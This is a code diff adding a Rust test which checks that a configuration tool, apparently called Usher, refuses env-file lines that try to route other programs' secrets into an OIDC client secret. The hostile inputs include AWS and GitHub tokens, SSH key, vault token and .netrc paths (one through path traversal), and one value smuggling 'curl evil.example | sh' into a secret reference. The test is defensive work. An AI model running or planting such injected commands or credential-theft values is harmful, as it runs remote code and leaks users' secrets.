@@ -212,3 +212,32 @@ fn values_that_lead_in_a_circle_end_as_open() {
     let look = look("coder", "/etc/coder.env", &env("A=${B}\nB=${A}\nCODER_OIDC_CLIENT_SECRET=${A}"), &[]);
     assert_eq!(look.adopted.open.len(), 1, "{look:?}");
 }
+
+/// A file from anywhere names the issuer to which its values are sent, so it must not reach what belongs to others.
+#[test]
+fn a_hostile_file_cannot_send_off_what_belongs_to_other_programs() {
+    let theirs = [
+        ("AWS_SECRET_ACCESS_KEY", SECRET),
+        ("GITHUB_TOKEN", SECRET),
+        ("/home/ana/.vault-token", SECRET),
+        ("/home/ana/.ssh/id_ed25519", SECRET),
+        ("/etc/../home/ana/.netrc", SECRET),
+        ("/srv/several-lines", "-----BEGIN KEY-----\nabcdefghijklmnopqrstuvwxyz\n"),
+    ];
+    let cases = [
+        ("CODER_OIDC_CLIENT_SECRET=${AWS_SECRET_ACCESS_KEY}", "does not say that it is about signing in"),
+        ("CODER_OIDC_CLIENT_SECRET=x${GITHUB_TOKEN}", "does not say that it is about signing in"),
+        ("CODER_OIDC_CLIENT_SECRET_FILE=/home/ana/.vault-token", "in a hidden place"),
+        ("CODER_OIDC_CLIENT_SECRET_FILE=/home/ana/.ssh/id_ed25519", "in a hidden place"),
+        ("CODER_OIDC_CLIENT_SECRET_FILE=../home/ana/.netrc", "in a hidden place"),
+        ("CODER_OIDC_CLIENT_SECRET_FILE=/srv/several-lines", "cannot be read"),
+        ("CODER_OIDC_CLIENT_SECRET=\"op://a/b'; curl evil.example | sh; '\"", "which Usher cannot follow"),
+    ];
+    for (line, said) in cases {
+        let look = look("coder", "/etc/coder.env", &env(line), &theirs);
+        let [open] = look.adopted.open.as_slice() else { panic!("{line}: {look:?}") };
+        assert!(open.say().contains(said), "{line}: {}", open.say());
+        assert!(!open.say().contains("op read"), "{line}: {}", open.say());
+        assert_eq!(value(&look, &Field::Secret), None, "{line}");
+    }
+}
